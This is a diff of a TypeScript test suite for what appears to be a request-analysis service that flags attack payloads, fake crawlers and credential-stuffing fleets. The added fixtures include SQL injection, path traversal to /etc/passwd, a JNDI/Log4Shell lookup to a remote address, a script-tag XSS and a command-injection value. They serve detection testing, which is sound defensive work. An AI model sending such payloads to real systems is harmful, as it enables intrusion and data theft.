@@ -117,15 +117,81 @@ describe('features', { skip: skipWithoutServices }, () => {
       http_versions: ['1.1'],
       ja4_r: 't13d_raw',
       tls_alpn: ['h2', 'http/1.1'],
+      h2_fingerprint: '',
+      payload_requests: 0,
+      verified_bot: null,
+      false_bot: null,
       server_names: [],
       ttl: 64,
       tcp_options: '2-4-8-1-3',
       busiest_ten_seconds: 2,
       address_requests: 3,
       address_failed: 2,
+      login_fleet_addresses: 1,
+      login_fleet_posts: 1,
+      login_fleet_refused: 1,
       first_seen: '2026-11-22T14:03:21.482913Z',
       last_seen: '2026-11-22T14:59:59.999999Z',
     });
+  });
+
+  it('200 the context counts requests that carry an attack, and shows them with their query', async () => {
+    const host = 'attacked.example';
+    const attacks = [
+      { path: '/item', query: "id=1'%20OR%20'1'%3D'1" },
+      { path: '/item', query: 'id=1+UNION+ALL+SELECT+null' },
+      { path: '/static/..%2f..%2fetc/passwd' },
+      { path: '/', user_agent: '${jndi:ldap://203.0.113.9/a}' },
+      { path: '/search', query: 'q=%3Cscript%3Ealert(1)' },
+      { path: '/run', query: 'cmd=;cat+/etc/hosts' },
+    ];
+    const honest = [
+      'q=rock+%27n%27+roll',
+      'fields=name|id|title',
+      'onload=ready&render=explicit',
+      'return=https%3A%2F%2Fshop.example%2Fcart',
+      'q=select+a+union',
+      "q=it's and so on=1",
+    ].map((query) => ({ path: '/search', query }));
+    await insertRequests(api.context.store, requestsOf(host, [...attacks, ...honest]));
+    const { context } = await row(host);
+    assert.equal(context.payload_requests, attacks.length);
+    assert.ok(context.sample_paths.includes('/item?id=1+UNION+ALL+SELECT+null'), context.sample_paths.join(' '));
+    assert.ok(context.sample_paths.every((path) => !path.includes('select+a')));
+  });
+
+  it('200 the context tells crawlers by their published addresses, and how HTTP/2 was opened', async () => {
+    const headers = { 'content-type': 'application/octet-stream' };
+    const body = '192.0.2.0/24\n2001:db8:66::/48\n';
+    const imported = await api.call('/v1/reference-lists/googlebot?kind=bots', { method: 'PUT', headers, body });
+    assert.equal(imported.status, 200, await imported.text());
+    const user_agent = 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)';
+    const h2_fingerprint = '1:65536|0|0|m,a,s,p';
+    for (const [host, address, verified_bot, false_bot] of [
+      ['true-bot.example', '192.0.2.77', 'googlebot', null],
+      ['true-bot-6.example', '2001:db8:66::1', 'googlebot', null],
+      ['false-bot.example', '198.51.100.77', null, 'googlebot'],
+    ] as const) {
+      await insertRequests(api.context.store, requestsOf(host, [{ user_agent, h2_fingerprint }], address));
+      const { context } = await row(host);
+      assert.deepEqual([context.verified_bot, context.false_bot], [verified_bot, false_bot], host);
+      assert.equal(context.h2_fingerprint, h2_fingerprint);
+    }
+  });
+
+  it('200 the context of each member of a fleet that tries logins tells how many there are', async () => {
+    const host = 'stuffed.example';
+    const attempt = { method: 'POST', path: '/login', ja4: 'stuffing', header_order_hash: 'of-a-script' };
+    const attempts = Array.from({ length: 12 }, (_, at) => {
+      const address = `198.51.100.${at}`;
+      return { ...attempt, src_ip: address, client_ip: address, status: at === 0 ? 302 : 401 };
+    });
+    const others = Array.from({ length: 30 }, () => ({ ja4: 'stuffing', header_order_hash: 'of-people', path: '/' }));
+    await insertRequests(api.context.store, requestsOf(host, [...attempts, ...others]));
+    for (const { context, client_ip } of (await list(`host=${host}`)).items) {
+      const { login_fleet_addresses, login_fleet_posts, login_fleet_refused } = context;
+      assert.deepEqual([login_fleet_addresses, login_fleet_posts, login_fleet_refused], [12, 12, 11], client_ip);
+    }
   });
 
   it('200 behind a proxy no TLS fact is a fact of the client', async () => {
@@ -148,7 +214,7 @@ describe('features', { skip: skipWithoutServices }, () => {
     const seen: FeatureRow[] = [];
     let cursor = '';
     do {
-      const page = await list(`limit=7${cursor}`);
+      const page = await list(`limit=40${cursor}`);
       seen.push(...page.items);
       cursor = page.next_cursor === null ? '' : `&cursor=${page.next_cursor}`;
     } while (cursor);
@@ -156,9 +222,20 @@ describe('features', { skip: skipWithoutServices }, () => {
     assert.ok(seen.length >= cases.length);
   });
 
+  it('200 the export is the list of features, then all rows', async () => {
+    const response = await api.call(`/v1/features/export?${range}`);
+    assert.equal(response.status, 200);
+    const [head, ...rows] = (await response.text())
+      .trimEnd()
+      .split('\n')
+      .map((line) => JSON.parse(line) as unknown);
+    const { items, next_cursor: _, ...described } = await list('limit=5000');
+    assert.deepEqual([head, rows], [described, items]);
+  });
+
   it('200 filters', async () => {
     await insertRequests(api.context.store, requestsOf('plain.example', [withoutHandshake]));
-    assert.equal((await list('client_ip=198.51.100.0/24')).items.length, 1);
+    assert.equal((await list('client_ip=198.51.100.0/24&host=proxied.example')).items.length, 1);
     assert.equal((await list('host=plain.example&ja4=')).items.length, 1);
     assert.equal((await list('host=plain.example&min_requests=2')).items.length, 0);
   });
